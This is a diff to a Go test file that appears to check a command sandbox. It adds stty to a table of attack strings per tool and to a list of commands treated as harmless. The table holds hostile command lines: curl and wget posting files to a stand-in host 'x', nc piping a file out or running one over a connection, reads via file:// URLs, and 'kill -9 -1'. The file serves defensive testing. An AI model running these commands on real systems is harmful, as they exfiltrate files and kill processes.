@@ -78,6 +78,7 @@ func attacks() map[string][]string {
 		"kill": {fmt.Sprintf("kill -9 %d; kill -0 %d && echo %s", os.Getpid(), os.Getpid(), visible), fmt.Sprintf("kill -9 -%d", os.Getpid()), "kill -9 -1"},
 		"wget": {"wget -O FILE http://x/", "wget file://FILE", "wget -O- file://DIR/canary", "wget -P DIR http://x/", "wget --post-file=FILE http://x/", "wget -i FILE"},
 		"curl": {"curl file://FILE", "curl -s file://DIR/canary", "curl -o DIR/new http://x/", "curl -d @FILE http://x/", "curl --cacert FILE https://x/", "curl -K FILE http://x/"},
+		"stty": {"stty size < FILE", "stty -F FILE"},
 		"nc":   {"nc -e FILE x 1", "nc x 1 < FILE", "nc -lU DIR/new"},
 	}
 }
@@ -286,7 +287,7 @@ func (b *box) mustNotHold(t *testing.T, secret string) {
 func TestAttacksAreReal(t *testing.T) {
 	all := attacks()
 	all["the shell"] = constructs()
-	harmless := strings.Fields("true false expr usleep sleep seq printf sync uname id whoami nproc ps kill hostname printenv wget curl nc dirname date free uptime pidof pgrep pkill killall tty groups hostid")
+	harmless := strings.Fields("true false expr usleep sleep seq printf sync uname id whoami nproc ps kill hostname printenv wget curl nc dirname date free uptime pidof pgrep pkill killall tty groups hostid stty")
 	for name, list := range all {
 		if slices.Contains(harmless, name) {
 			continue
